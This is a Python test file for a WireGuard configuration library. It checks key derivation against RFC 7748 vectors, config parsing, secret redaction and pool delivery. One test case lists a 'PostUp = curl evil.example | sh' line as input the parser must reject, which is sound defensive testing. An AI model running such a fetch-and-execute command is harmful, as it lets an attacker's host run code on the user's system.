"""WireGuard keys and configurations, and a pool of them."""

from __future__ import annotations

import pickle

import pytest
from support import OPERATOR, Host

import handfast
from handfast import InvalidInput, Secret, WireGuardError
from handfast.wireguard import Config, Peer, PrivateKey, generate_preshared_key

# RFC 7748 section 6.1.
PRIVATE, PUBLIC = "dwdtCnMYpX08FsFyUbJmRd9ML4frwJkqsXf7pR25LCo=", "hSDwCYkwp1R0i33ctD73Wg2/Og0mOBr066SpjqqbTmo="
OTHER = "3p7bfXt9wbTTW2HC7OQ1Nz+DQ8hbeGdNrfx+FG+IK08="


def prepared() -> Config:
    hub = Peer(
        OTHER,
        allowed_ips=["10.9.0.0/24", "fd00::/64"],
        endpoint="vpn.example:51820",
        preshared_key=generate_preshared_key(),
        persistent_keepalive=25,
    )
    key = PrivateKey.generate()
    return Config(key, addresses=["10.9.0.2"], dns=["10.9.0.1", "corp.example"], listen_port=1, mtu=1420, peers=[hub])


def test_keys_are_those_of_wg() -> None:
    for key in (PrivateKey(PRIVATE), PrivateKey(Secret(PRIVATE))):
        assert key.public_key == PUBLIC
        assert PrivateKey(key.to_secret()) == key != PrivateKey.generate()
    with pytest.raises(WireGuardError) as raised:
        PrivateKey(PRIVATE[:-1])
    assert raised.value.code == "wireguard_malformed_key" and PRIVATE[:8] not in str(raised.value)
    with pytest.raises(InvalidInput, match="expected a text or a Secret"):
        PrivateKey(7)  # type: ignore[arg-type]


def test_a_configuration_is_built_and_read_back() -> None:
    config = prepared()
    text = config.to_secret()
    assert Config.parse(text) == config == Config.parse(text.expose())
    assert text.expose().startswith("[Interface]\nPrivateKey = ")
    assert (config.addresses, config.dns) == (["10.9.0.2/32"], ["10.9.0.1", "corp.example"])
    assert (config.listen_port, config.mtu) == (1, 1420)
    [peer] = config.peers
    assert (peer.public_key, peer.endpoint, peer.persistent_keepalive) == (OTHER, "vpn.example:51820", 25)
    assert peer.allowed_ips == ["10.9.0.0/24", "fd00::/64"] and isinstance(peer.preshared_key, Secret)
    bare = Config(PrivateKey.generate(), peers=[Peer(OTHER)])
    assert (bare.mtu, bare.peers[0].preshared_key, bare.peers[0].endpoint) == (None, None, None)


@pytest.mark.parametrize(
    ("change", "code"),
    [
        ("PostUp = curl evil.example | sh", "wireguard_command"),
        ("Table = off", "wireguard_malformed_config"),
        ("MTU = 1", "wireguard_malformed_config"),
        (f"PrivateKey = {PRIVATE}", "wireguard_malformed_config"),
        ("#" * 70_000, "too_large"),
    ],
)
def test_what_could_harm_is_refused(change: str, code: str) -> None:
    text = f"[Interface]\nPrivateKey = {PRIVATE}\n{change}\n"
    with pytest.raises(WireGuardError) as raised:
        Config.parse(Secret(text))
    assert raised.value.code == code


def test_parts_must_fit_together() -> None:
    for make in (
        lambda: Config(PrivateKey(PRIVATE), peers=[Peer(PUBLIC)]),
        lambda: Config(PrivateKey(PRIVATE), addresses=["10.0.0.0/33"]),
        lambda: Peer(OTHER, endpoint="vpn.example"),
    ):
        with pytest.raises(WireGuardError) as raised:
            make()
        assert raised.value.code == "wireguard_malformed_config"
    with pytest.raises(WireGuardError, match="low order"):
        Peer("AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=")


def test_nothing_secret_is_shown_or_pickled() -> None:
    config = prepared()
    for value in (config, config.private_key, config.peers[0]):
        assert config.private_key.to_secret().expose() not in repr(value)
        with pytest.raises(TypeError, match="cannot be pickled"):
            pickle.dumps(value)
    assert repr(config.private_key) == f"<handfast.wireguard.PrivateKey of {config.private_key.public_key}>"


def test_a_pool_of_prepared_configurations() -> None:
    host, config = Host(), prepared()
    host.run(
        handfast.change_pool(scope="default", pool="wireguard", add={"peer-2": config.to_secret()}, authority=OPERATOR)
    )
    issued = host.run(
        handfast.issue(
            name="edge-1", authority=OPERATOR, deliver=True, contents=[{"type": "pool_item", "pool": "wireguard"}]
        )
    )
    assert issued["type"] == "issued" and issued["token"] is not None
    redeemed = host.run(handfast.redeem(token=issued["token"], fingerprint="m"))
    assert redeemed["type"] == "redeemed"
    [item] = redeemed["contents"]
    assert item["type"] == "pool_item" and item["content"] is not None
    assert Config.parse(item["content"]) == config
